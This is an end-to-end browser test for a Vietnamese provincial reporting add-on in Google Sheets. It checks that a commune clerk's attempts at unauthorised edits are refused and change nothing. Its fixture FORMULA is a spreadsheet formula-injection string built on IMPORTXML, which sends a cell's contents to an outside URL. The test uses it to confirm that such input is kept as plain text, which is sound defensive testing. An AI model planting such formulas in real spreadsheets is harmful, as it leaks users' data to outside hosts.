/**
 * SPEC "Who may change what" (issue 16) end to end in headless Chromium,
 * through the preview (npm start) on the province sample. After the owner's
 * "Chuẩn bị kỳ báo cáo", a commune's clerk tries each of the six things the
 * issue lists, through the page as a person would (the grid, the edit bar,
 * the sidebar's own google.script.run), and each is refused in Vietnamese
 * with nothing changed; then a reviewer's return reason that looks like a
 * formula is shown, stored and logged as the words typed.
 */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { columnToLetters } from "@cchc/gas-standins";
import { SUBMISSION_COLUMNS, type SubmissionKey } from "../src/core/schema";
import { PROVINCE_OWNER, PROVINCE_REVIEWER, type Preview, startPreview } from "../src/local/preview/server";
import { QT_CURRENT, quangTriWorkbook } from "../src/local/samples/quang-tri";
import { launchChromium } from "./helpers/browser";
import { actAs, approvalSection, freePort, shown, typeInto } from "./helpers/preview";

const A = { code: "18904", name: "Xã Dân Hóa", clerk: "mot-cua.18904@quangtri.example.vn" };
const B = { code: "18919", name: "Xã Tân Thành", clerk: "mot-cua.18919@quangtri.example.vn" };
const FORMULA = '=IMPORTXML("http://example.com/?d="&B2;"//a")';

const province = quangTriWorkbook();
const column = (key: SubmissionKey) => SUBMISSION_COLUMNS.findIndex((c) => c.key === key);
const rowOf = (period: string, unit: string) => province.submissions.findIndex((r) => r[0] === period && r[1] === unit) + 1;
const cell = (period: string, unit: string, key: SubmissionKey) => `${columnToLetters(column(key) + 1)}${rowOf(period, unit)}`;

let browser: Browser;
let here: Preview;

beforeAll(async () => {
  here = await startPreview({ port: await freePort(), sample: "quang-tri" });
  // The sample's rows fill its sheet (more than Sheets' first 1,000): rows added at the bottom, as Sheets' "Thêm … hàng"
  // under the grid does for any editor, so that there is a free row below the table to type into (attempt 6).
  env(() => {
    const data = here.addon.env.document.getSheetByName("Số liệu")!;
    if (data.getMaxRows() <= data.getLastRow() + 1) data.insertRowsAfter(data.getMaxRows(), 10);
  });
  browser = await launchChromium();
}, 60000);

afterAll(async () => {
  await browser?.close();
  await here?.close();
});

/** Runs stand-in calls as the spreadsheet's owner (not as the clerk acting in the page). */
function env<T>(work: () => T): T {
  const e = here.addon.env;
  const user = e.user;
  e.setUser(PROVINCE_OWNER);
  try {
    return work();
  } finally {
    e.setUser(user);
  }
}

/** Everything a refused attempt must leave as it was: every sheet's values, the document properties, the protections. */
function everything(): string {
  const env = here.addon.env;
  const user = env.user;
  env.setUser(PROVINCE_OWNER);
  try {
    const SA = env.globals.SpreadsheetApp;
    const sheets = env.document.getSheets().map((s) => [s.getName(), s.getDataRange().getValues()]);
    const protections = env.document
      .getSheets()
      .flatMap((s) => [...s.getProtections(SA.ProtectionType.SHEET), ...s.getProtections(SA.ProtectionType.RANGE)])
      .map((p) => `${p.getDescription()}|${p.getRange().getA1Notation()}|${p.getEditors().length}`)
      .sort();
    const props = Object.entries(env.globals.PropertiesService.getDocumentProperties().getProperties()).sort();
    return JSON.stringify([sheets, protections, props]);
  } finally {
    env.setUser(user);
  }
}

/** The grid's refusal dialog: its Vietnamese line says why; OK closes it. */
async function refusedInGrid(page: Page): Promise<string> {
  const dialog = page.getByRole("alertdialog");
  await dialog.waitFor({ state: "visible", timeout: 15000 });
  const help = await dialog.locator("#rejected-help").innerText();
  await dialog.getByRole("button", { name: "OK" }).click();
  return help;
}

/** A server function called by hand from the sidebar's page, as any editor can (google.script.run): its failure message. */
function callByHand(page: Page, fn: string, ...args: unknown[]): Promise<string> {
  return page.evaluate(
    ({ fn, args }) =>
      new Promise<string>((resolve) => {
        type Run = { withSuccessHandler(f: () => void): Run; withFailureHandler(f: (e: Error) => void): Run } & Record<
          string,
          (...a: unknown[]) => void
        >;
        const run = (window as unknown as { google: { script: { run: Run } } }).google.script.run;
        run.withSuccessHandler(() => resolve("(accepted)")).withFailureHandler((e) => resolve(e.message))[fn]!(...args);
      }),
    { fn, args },
  );
}

describe("who may change what, in the browser (issue 16)", { timeout: 300000 }, () => {
  it("a clerk's six attempts on what is not theirs are refused in Vietnamese and change nothing; a formula-like reason stays text", async () => {
    const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
    await page.goto(here.url);
    await page.locator("#grid").waitFor();
    await expect.poll(() => page.locator("#period").inputValue(), { timeout: 20000 }).toBe(QT_CURRENT);
    const region = approvalSection(page);
    await expect
      .poll(() => page.locator("#approval-user").innerText(), { timeout: 20000 })
      .toBe(`Tài khoản: ${PROVINCE_OWNER} (người duyệt).`);
    await region.getByRole("button", { name: "Chuẩn bị kỳ báo cáo" }).click();
    await expect.poll(() => page.locator("#approval-status").innerText(), { timeout: 30000 }).toMatch(/^Kỳ quý II năm 2026: đã thêm/);

    await actAs(here, page, A.clerk);
    const before = everything();

    // 1. Make themselves a reviewer: the save button is not there, and the server refuses the call made by hand.
    await page.locator("#settings summary").click();
    expect(await page.getByRole("button", { name: "Lưu thông tin" }).count()).toBe(0);
    const settings = JSON.parse(here.addon.env.globals.PropertiesService.getDocumentProperties().getProperty("cchc.settings")!);
    expect(await callByHand(page, "saveSettings", { ...settings, reviewers: [A.clerk] })).toMatch(
      /^Chỉ người duyệt \(.*\) mới được lưu Thông tin báo cáo\. Tài khoản mot-cua\.18904@quangtri\.example\.vn không phải người duyệt/,
    );
    expect(await callByHand(page, "preparePeriod", QT_CURRENT)).toMatch(/^Chỉ người duyệt .* mới được chuẩn bị kỳ báo cáo/);

    // 2. Another unit's figures of an earlier period.
    const earlier = cell("2026-Q1", B.code, "received_online");
    await typeInto(page, earlier, "1");
    expect(await refusedInGrid(page)).toMatch(/^Tài khoản mot-cua\.18904@quangtri\.example\.vn không được sửa ô này\. Chỉ người duyệt sửa/);

    // 3. A header of Số liệu (swapping the meaning of two columns).
    await typeInto(page, `${columnToLetters(column("received_online") + 1)}1`, "Nhận trực tiếp, bưu chính");
    expect(await refusedInGrid(page)).toMatch(/không được sửa ô này/);

    // 4. Đơn vị (another unit's Email nhập liệu) and Chỉ tiêu (a target set to 0%).
    const bUnitRow = province.units.findIndex((r) => r[0] === B.code) + 1;
    await typeInto(page, `D${bUnitRow}`, A.clerk, "Đơn vị");
    expect(await refusedInGrid(page)).toMatch(/không được sửa ô này/);
    await typeInto(page, "C2", "0", "Chỉ tiêu");
    expect(await refusedInGrid(page)).toMatch(/không được sửa ô này/);

    // 6. A row for another unit below the table.
    const below = province.submissions.length + 2; // the first free row (prepare added one)
    await typeInto(page, `B${below}`, B.code);
    expect(await refusedInGrid(page)).toMatch(/không được sửa ô này/);
    expect(everything()).toBe(before);

    // 5. Their own row after "Đã nộp", and the reviewer's Ý kiến.
    await region.getByRole("button", { name: "Nộp số liệu" }).click();
    await expect.poll(() => page.locator("#approval-status").innerText(), { timeout: 20000 }).toMatch(/Trạng thái mới: Đã nộp\.$/);
    const submitted = everything();
    const own = cell(QT_CURRENT, A.code, "received_online");
    await typeInto(page, own, "1");
    expect(await refusedInGrid(page)).toMatch(/^Dòng đã nộp: chỉ người duyệt sửa được/);
    await typeInto(page, cell(QT_CURRENT, A.code, "review_note"), "Đã xem");
    expect(await refusedInGrid(page)).toMatch(/không được sửa ô này/);
    expect(everything()).toBe(submitted);

    // The reviewer returns it with a reason that looks like a formula: shown, stored and logged as typed.
    await actAs(here, page, PROVINCE_REVIEWER);
    const rowA = region.getByRole("row", { name: new RegExp(`^${A.name} \\(${A.code}\\)`) });
    await rowA.getByLabel("Lý do trả lại").fill(FORMULA);
    await rowA.getByRole("button", { name: "Trả lại" }).click();
    await expect.poll(() => page.locator("#approval-status").innerText(), { timeout: 20000 }).toMatch(/Trạng thái mới: Trả lại\.$/);
    expect(await rowA.innerText()).toContain(`Ý kiến: ${FORMULA}`);
    const note = cell(QT_CURRENT, A.code, "review_note");
    await page.getByRole("tab", { name: "Số liệu", exact: true }).click();
    await expect.poll(() => shown(page, note), { timeout: 15000 }).toBe(FORMULA);
    const range = here.addon.env.sheet("Số liệu").getRange(note);
    expect(range.getFormula()).toBe("");
    expect(range.getValue()).toBe(FORMULA);
    const log = here.addon.env.values("Nhật ký CCHC");
    expect(log.at(-1)![7]).toBe(FORMULA);
    await page.close();
  });
});
